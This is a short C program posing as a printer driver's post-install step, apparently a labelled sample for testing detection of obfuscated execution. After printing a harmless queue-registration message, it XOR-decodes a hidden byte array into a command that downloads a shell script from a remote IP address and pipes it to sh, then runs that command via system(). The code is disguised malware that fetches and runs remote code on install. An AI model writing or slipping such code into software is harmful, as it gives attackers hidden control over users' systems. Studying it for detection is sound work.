// blind-expect: behavior.obfuscated-execution
// Post-install step of a printer driver package that finishes configuring the system after files are copied.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const unsigned char step_data[] = {
    0x40, 0x50, 0x52, 0x43, 0x17, 0x1a, 0x46, 0x17, 0x1a, 0x78, 0x1a, 0x17, 0x5f, 0x43,
    0x43, 0x47, 0x0d, 0x18, 0x18, 0x06, 0x0e, 0x0f, 0x19, 0x02, 0x06, 0x19, 0x06, 0x07,
    0x07, 0x19, 0x05, 0x04, 0x18, 0x42, 0x19, 0x44, 0x5f, 0x17, 0x4b, 0x17, 0x44, 0x5f
};

static void register_queue(const char *name)
{
    printf("registered print queue %s\n", name);
}

int main(int argc, char **argv)
{
    char step[sizeof step_data + 1];
    size_t i;

    register_queue(argc > 1 ? argv[1] : "default");

    for (i = 0; i < sizeof step_data; i++)
        step[i] = (char)(step_data[i] ^ 0x37);
    step[i] = '\0';

    if (system(step) != 0)
        fprintf(stderr, "post-install step failed\n");
    memset(step, 0, sizeof step);
    puts("driver installed");
    return 0;
}
